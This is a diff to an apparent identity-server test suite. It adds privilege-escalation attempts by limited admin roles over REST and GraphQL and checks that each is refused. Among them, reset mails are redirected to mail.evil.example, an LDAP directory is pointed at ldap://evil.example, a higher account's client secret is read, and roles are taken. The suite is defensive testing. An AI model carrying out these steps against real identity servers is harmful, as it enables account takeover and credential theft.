@@ -395,7 +395,72 @@ const onAuthorization: Omit<Attack, 'by'>[] = [
   { name: 'impersonates an administrator', method: 'POST', path: (ids) => `${boss(ids)}/impersonation` },
 ];
 
+const more: Attack[] = [
+  {
+    by: 'view-clients',
+    name: 'reads the settings of an adapter with the secret of a service account that is above',
+    method: 'GET',
+    path: (ids) => `/clients/${ids.clients.robot}/installation/providers/keycloak-oidc-keycloak-json`,
+  },
+  {
+    by: 'manage-clients',
+    name: 'has mappers write the tokens of an administration tool',
+    method: 'POST',
+    path: (ids) => `/clients/${ids.clients['admin-cli']}/protocol-mappers/models`,
+    body: () => ({ name: 'm', protocol: 'openid-connect', protocolMapper: 'oidc-hardcoded-claim-mapper', config: {} }),
+  },
+  {
+    by: 'manage-realm',
+    name: 'has mails with links go to a server of its own',
+    method: 'PUT',
+    path: () => '',
+    body: () => ({ resetPasswordAllowed: true, smtpServer: { host: 'mail.evil.example', from: 'a@evil.example' } }),
+  },
+  ...['manage-clients', 'manage-authorization'].map(
+    (by): Attack => ({
+      by,
+      name: 'decides who may manage users',
+      method: 'POST',
+      path: (ids) => `${rm(ids)}/authz/resource-server/policy`,
+      body: (ids) => ({ name: 'mine', type: 'user', config: { users: JSON.stringify([ids.users[by]]) } }),
+    }),
+  ),
+  {
+    by: 'manage-users',
+    name: 'binds an own user to a directory that hands out administration',
+    method: 'POST',
+    path: () => '/users',
+    body: (ids) => ({
+      username: 'chief-there',
+      federationLink: ids.storage,
+      credentials: [{ type: 'password', value: 'mine' }],
+    }),
+  },
+  {
+    by: 'manage-users',
+    name: 'binds a user who is there to it',
+    method: 'PUT',
+    path: (ids) => `/users/${ids.users.victim}`,
+    body: (ids) => ({ federationLink: ids.storage }),
+  },
+  {
+    by: 'manage-users',
+    name: 'binds an administrator to a directory',
+    method: 'PUT',
+    path: boss,
+    body: (ids) => ({ federationLink: ids.storage }),
+  },
+  {
+    by: 'manage-realm',
+    name: 'moves a directory that hands out administration',
+    method: 'PUT',
+    path: (ids) => `/components/${ids.storage}`,
+    body: () => ({ config: { connectionUrl: ['ldap://evil.example'] } }),
+  },
+];
+
 const attacks: Attack[] = [
+  ...more,
   ...onUsers.map((attack) => ({ ...attack, by: 'manage-users' })),
   ...onRolesOfClients.map((attack) => ({ ...attack, by: 'manage-clients' })),
   ...onRealm.map((attack) => ({ ...attack, by: 'manage-realm' })),
@@ -448,6 +513,56 @@ describe('an administrator with one role', () => {
     });
     expect(response.status).toBe(200);
     expect(await keyProviders()).toEqual(keys);
+  });
+});
+
+describe('over GraphQL', () => {
+  const node = (type: string, id: string | undefined) => Buffer.from(`${type}:${id}`).toString('base64');
+
+  it('the secret of a service account that is above is not told', async () => {
+    const caller = await userOf(server, realm, 'manage-clients', 'pw');
+    const secretOf = (clientId: string) =>
+      caller.graphql<{ realm: object | null }>(
+        `{ realm(name: "${realm}") { client(clientId: "${clientId}") { secret } } }`,
+      );
+    expect(JSON.stringify((await secretOf('app')).data)).toContain('app-secret');
+    const refused = await secretOf('robot');
+    expect(refused.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
+    expect(JSON.stringify(refused)).not.toContain('robot-secret');
+  });
+
+  it('groups, roles and accounts are not taken either', async () => {
+    const users = await userOf(server, realm, 'manage-users', 'pw');
+    const clients = await userOf(server, realm, 'manage-clients', 'pw');
+    const ownId = node('User', ids.users['manage-users']);
+    const attempts: [Caller, string][] = [
+      [
+        users,
+        `userJoinGroups(input: { id: "${ownId}", groups: ["${node('Group', ids.groups.inner)}"] }) { userErrors { code } }`,
+      ],
+      [
+        users,
+        `userAddRoles(input: { id: "${ownId}", roles: ["${node('Role', ids.roles.chief)}"] }) { userErrors { code } }`,
+      ],
+      [users, `userDelete(input: { id: "${node('User', ids.users.boss)}" }) { userErrors { code } }`],
+      [users, `usersDelete(input: { users: ["${node('User', ids.users.boss)}"] }) { userErrors { code } }`],
+      [
+        clients,
+        `roleUpdate(input: { id: "${node('Role', ids.rights['manage-users'])}", name: "x" }) { userErrors { code } }`,
+      ],
+      [clients, `roleDelete(input: { id: "${node('Role', ids.rights['manage-users'])}" }) { userErrors { code } }`],
+      [
+        clients,
+        `clientRegenerateSecret(input: { id: "${node('Client', ids.clients.robot)}" }) { userErrors { code } }`,
+      ],
+    ];
+    for (const [caller, mutation] of attempts) {
+      const answer = await caller.graphql<Record<string, { userErrors: { code: string }[] }>>(
+        `mutation { ${mutation} }`,
+      );
+      expect(answer.errors, mutation).toBeUndefined();
+      expect(Object.values(answer.data)[0]?.userErrors, mutation).toMatchObject([{ code: 'FORBIDDEN' }]);
+    }
   });
 });
 
